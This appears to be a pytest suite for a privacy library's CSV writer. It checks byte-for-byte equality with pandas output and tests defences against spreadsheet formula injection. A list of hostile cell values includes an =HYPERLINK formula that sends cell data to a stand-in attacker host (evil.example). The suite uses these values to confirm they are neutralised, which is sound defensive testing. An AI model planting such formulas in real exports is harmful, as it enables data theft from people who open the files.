"""The pyarrow CSV writer (:func:`kerckhoffs.data.io.write_csv`) writes pandas' bytes.

Releases keep their bytes (and so their SHA-256 digests in ``release.json``) when the writer
changed from ``DataFrame.to_csv`` to pyarrow (issue 15): every frame, awkward strings
included (commas, quotes, newlines, carriage returns, unicode, empty, missing), is compared
byte for byte with ``to_csv(index=False)``, which is the reference, never recomputed by the
code under test.
"""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from budget import examples
from kerckhoffs import Schema, Table
from kerckhoffs.algorithms import REGISTRY
from kerckhoffs.data.io import QUOTED_CHARS, write_csv
from kerckhoffs.datasets import generate_hospital
from kerckhoffs.models import parse_model
from kerckhoffs.release import Release

SCHEMA = Path(__file__).resolve().parents[1] / "examples" / "demo" / "schema.toml"


def _reference(df: pd.DataFrame) -> bytes:
    """pandas' bytes; where a cell holds a carriage return (which Python 3.11's ``csv``, so
    pandas, leaves bare, ending the row for any reader), the same cells written as RFC 4180
    says: a field holding ``,`` ``"`` LF or CR quoted, ``"`` doubled, rows ending in LF (the
    cell texts are pandas', read with Python's ``csv`` from pandas' CRLF rendering, in which
    every CR is quoted)."""
    import csv
    import io

    text = df.to_csv(index=False)
    if "\r" not in text:
        return text.encode()
    rows = csv.reader(io.StringIO(df.to_csv(index=False, lineterminator="\r\n"), newline=""))
    lines = []
    for row in rows:
        cells = [
            f'"{c.replace(chr(34), chr(34) * 2)}"' if set(c) & {",", '"', "\n", "\r"} else c
            for c in row
        ]
        lines.append(",".join(cells) + "\n")
    return "".join(lines).encode()


def _same_bytes(df: pd.DataFrame, tmp: Path) -> bytes:
    write_csv(df, tmp / "new.csv")
    new = (tmp / "new.csv").read_bytes()
    assert new == _reference(df)
    if len(df.columns) and len(set(df.columns)) == len(df.columns):  # one row per row
        assert len(pd.read_csv(tmp / "new.csv", dtype=str, keep_default_na=False)) == len(df)
    return new


def test_hand_written_bytes(tmp_path: Path) -> None:
    """Exact expected bytes, written by hand (Python's csv quoting: ``,`` ``"`` newline)."""
    df = pd.DataFrame(
        {
            "group": np.array([0, 1, 2], dtype=np.int32),
            "a b": pd.array(["x,y", 'he said "hi"', None], dtype="str"),
            "c": ["", "line\nbreak", "ü"],
        }
    )
    got = _same_bytes(df, tmp_path)
    assert got == ('group,a b,c\n0,"x,y",\n1,"he said ""hi""","line\nbreak"\n2,,ü\n').encode()


def test_plain_frame_uses_the_fast_path(tmp_path: Path) -> None:
    df = pd.DataFrame({"g": [3, 1], "cell": ["[20-29]", "*"], "sa": [1.5, np.nan]})
    assert _same_bytes(df, tmp_path) == b"g,cell,sa\n3,[20-29],1.5\n1,*,\n"


def test_quoting_characters_probed() -> None:
    assert {",", '"', "\n", "\r"} <= set(QUOTED_CHARS)


def test_a_carriage_return_is_quoted(tmp_path: Path) -> None:
    """pandas writes ``x\\ry`` bare and reads it back as two rows; the writer quotes it, on
    the arrow path and on pandas' (one column)."""
    df = pd.DataFrame({"g": [1, 2], "a": ["x\ry", "\r=2"]})
    assert _same_bytes(df, tmp_path) == b'g,a\n1,"x\ry"\n2,"\r=2"\n'
    one = pd.DataFrame({"a": ["x\ry", "z"]})
    assert _same_bytes(one, tmp_path) == b'a\n"x\ry"\nz\n'


def test_dtypes_pandas_renders_itself(tmp_path: Path) -> None:
    """Dtypes the writer hands to pandas (datetime, categorical, nullable boolean, mixed
    objects, one column, no rows) still give pandas' bytes."""
    frames = [
        pd.DataFrame({"t": pd.to_datetime(["2020-01-01", None]), "x": [1, 2]}),
        pd.DataFrame({"c": pd.Categorical(["a", "b,c"]), "x": [1, 2]}),
        pd.DataFrame({"b": pd.array([True, None], dtype="boolean"), "x": [1, 2]}),
        pd.DataFrame({"o": [1, "a"], "x": [1, 2]}),
        pd.DataFrame({"only": ["", "a"]}),
        pd.DataFrame({"a": pd.Series([], dtype=str), "b": pd.Series([], dtype=int)}),
    ]
    for df in frames:
        _same_bytes(df, tmp_path)


AWKWARD = st.text(alphabet=st.sampled_from([*'ab ,;"\n\r\t|ü€😀0-[]*', "\u2028"]), max_size=6)


@st.composite
def frames(draw: st.DrawFn) -> pd.DataFrame:
    n = draw(st.integers(1, 8))
    n_cols = draw(st.integers(2, 5))
    data: dict[str, object] = {}
    for j in range(n_cols):
        kind = draw(st.sampled_from(["str", "object", "int", "float", "bool", "Int64"]))
        name = draw(st.sampled_from(["c", "a,b", 'q"', "ü", "x y"])) + str(j)
        if kind in {"str", "object"}:
            cells = draw(st.lists(st.one_of(AWKWARD, st.none()), min_size=n, max_size=n))
            data[name] = pd.array(cells, dtype="str") if kind == "str" else cells
        elif kind == "int":
            data[name] = np.array(
                draw(st.lists(st.integers(-(2**40), 2**40), min_size=n, max_size=n))
            )
        elif kind == "float":
            values = st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.just(1e-05))
            data[name] = np.array(draw(st.lists(values, min_size=n, max_size=n)), dtype=float)
        elif kind == "bool":
            data[name] = np.array(draw(st.lists(st.booleans(), min_size=n, max_size=n)))
        else:
            cells = draw(
                st.lists(st.one_of(st.integers(-100, 100), st.none()), min_size=n, max_size=n)
            )
            data[name] = pd.array(cells, dtype="Int64")
    return pd.DataFrame(data)


@settings(
    max_examples=examples(150),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(df=frames())
def test_awkward_frames_same_bytes(df: pd.DataFrame, tmp_path: Path) -> None:
    _same_bytes(df, tmp_path)


@pytest.mark.parametrize(
    ("name", "models", "scheme"),
    [
        ("mondrian", ["k=3"], "generalization"),
        ("anatomy", ["l=2"], "bucketization"),
        ("hilb", ["l=2"], "generalization"),
        ("mondrian++", ["l=2"], "bucketization"),
        ("mask+", ["k=3", "m=2"], "generalization"),
        ("lattice", ["k=2"], "generalization"),
        ("mdav", ["k=2"], "generalization"),
    ],
)
def test_release_frames_same_bytes(
    name: str, models: list[str], scheme: str, tmp_path: Path
) -> None:
    """Every table of the test releases (with the other columns published too)."""
    table = Table.encode(generate_hospital(300, 1), Schema.from_toml(SCHEMA), keep_other=True)
    info = REGISTRY[name]
    options = {"scheme": scheme} if "scheme" in info.options else {}
    release = info.run(table, [parse_model(m) for m in models], seed=1, **options)
    for df in release.frames(include_other=True).values():
        _same_bytes(df, tmp_path)


# -- cells a spreadsheet would run as formulas -------------------------------------------------
def _formula_like(cell: str) -> bool:
    """OWASP's definition ("CSV Injection"): a cell a spreadsheet reads as a formula starts
    with = + - @ tab or carriage return; a plain number (-5, +1.5) is read as that number."""
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    if re.fullmatch(r"[-+0-9.eE]+", cell):
        try:
            float(cell)
            return False
        except ValueError:
            pass
    return True


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+1 555 0100",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=2",
    "'=quoted already",
    "''+twice",
    "'plain quote",
    "-5",
    "+2.5e-3",
    "[-3--1]",
    "=",
    "flu",
]

FORMULA_TEXT = st.text(alphabet=st.sampled_from([*"=+-@\t\r'a1.e[]", " "]), max_size=6)


@given(cells=st.lists(st.one_of(FORMULA_TEXT, st.none()), min_size=1, max_size=12))
def test_formula_protection_round_trips(cells: list[str | None]) -> None:
    """Written: no cell is formula-like (OWASP); read back: exactly the cells written, for
    text, object and categorical columns, missing cells included."""
    from kerckhoffs.data.csv_cells import protect_formulas, restore_formulas

    present = [c for c in cells if c is not None] or ["a"]
    df = pd.DataFrame(
        {
            "s": pd.array(cells, dtype="str"),
            "o": pd.Series(cells, dtype=object),
            "c": pd.Categorical(cells),
            "n": np.arange(len(cells)) - 3,
        }
    )
    protected = protect_formulas(df)
    for name in ("s", "o", "c"):
        written = [c for c in protected[name].tolist() if isinstance(c, str)]
        assert not any(_formula_like(c) for c in written), written
    pd.testing.assert_frame_equal(restore_formulas(protected), df)
    assert protect_formulas(pd.DataFrame({"x": present})).shape == (len(present), 1)


def _hostile_release(tmp_path: Path) -> tuple[Release, pd.DataFrame]:
    n = 4 * len(HOSTILE)
    df = pd.DataFrame(
        {
            "age": [(i * 7) % 23 - 9 for i in range(n)],  # negative ages: "[-3--1]", "-5"
            "ward": [HOSTILE[(i + 3) % len(HOSTILE)] for i in range(n)],
            "note": [HOSTILE[i % len(HOSTILE)] for i in range(n)],
            "comment": [HOSTILE[(i + 5) % len(HOSTILE)] for i in range(n)],
        }
    )
    schema = Schema.from_dict(
        {
            "columns": {
                "age": {"role": "quasi", "kind": "numeric"},
                "ward": {"role": "quasi", "kind": "categorical"},
                "note": {"role": "sensitive", "kind": "categorical"},
                "comment": {"role": "other"},
            }
        }
    )
    table = Table.encode(df, schema, keep_other=True)
    return REGISTRY["mondrian"].run(table, [parse_model("k=2")]), df


@pytest.mark.parametrize("formats", [("csv", "parquet"), ("csv",)], ids=["both", "csv-only"])
def test_published_csv_holds_no_formula_and_reads_back_equal(
    formats: tuple[str, ...], tmp_path: Path
) -> None:
    """A release of values such as ``=HYPERLINK(...)``: its CSV cells (parsed with Python's
    csv module) are never formula-like, ``-5`` and ``[-3--1]`` stay as they are, the Parquet
    file holds the values unchanged, and kerckhoffs reads the release back, from either file,
    with exactly the input's values."""
    import csv

    import pyarrow.parquet as pq

    release, df = _hostile_release(tmp_path)
    out = tmp_path / "rel"
    release.write(out, [parse_model("k=2")], formats=formats, include_other=True)
    with (out / "release.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    cells = [c for r in body for c in r]
    assert not [c for c in cells if _formula_like(c)]
    column = {name: [r[j] for r in body] for j, name in enumerate(header)}
    assert "'" + HOSTILE[0] in column["note"] and "'" + HOSTILE[0] in column["comment"]
    assert "-5" in column["comment"] and "[-3--1]" in column["comment"]
    assert "'''=quoted already" not in cells and "''=quoted already" in cells
    if "parquet" in formats:
        stored = pq.read_table(out / "release.parquet").to_pandas()
        assert sorted(stored["note"]) == sorted(df["note"])
        assert sorted(stored["comment"]) == sorted(df["comment"])
    for verify in (True, False):  # the Parquet file first, then the CSV (--no-verify)
        back = Release.from_published(out, verify=verify)
        sa = back.table.sa_column.labels[back.table.sa]
        assert sorted(sa) == sorted(df["note"]), verify
    qi = release.frames()["release"]
    back_csv = Release.from_published(out, verify=False).frames()["release"]
    assert sorted(back_csv["ward"].astype(str)) == sorted(qi["ward"].astype(str))


def test_attack_findings_hold_no_formula(tmp_path: Path) -> None:
    """``tuples.csv`` of an attack carries the release's SA values: a value that a
    spreadsheet would run (``=HYPERLINK(...)``, ``@SUM(...)``) is written with a leading
    ``'``, a plain number stays, and ``summary.json`` says the CSV was written so."""
    import csv
    import json

    from kerckhoffs.attacks.result import AttackResult

    values = [HOSTILE[0], "@SUM(1+1)", "-5", "flu"]
    tuples = pd.DataFrame({"row": range(4), "sa_value": values, "posterior": 1.0, "breached": True})
    AttackResult("test", tuples, n_rows=4).write(tmp_path / "found")
    with (tmp_path / "found" / "tuples.csv").open(newline="", encoding="utf-8") as fh:
        written = [r[1] for r in list(csv.reader(fh))[1:]]
    assert written == ["'" + HOSTILE[0], "'@SUM(1+1)", "-5", "flu"]
    assert not [c for c in written if _formula_like(c)]
    summary = json.loads((tmp_path / "found" / "summary.json").read_text())
    assert summary["csv_formula_prefix"] == "'"
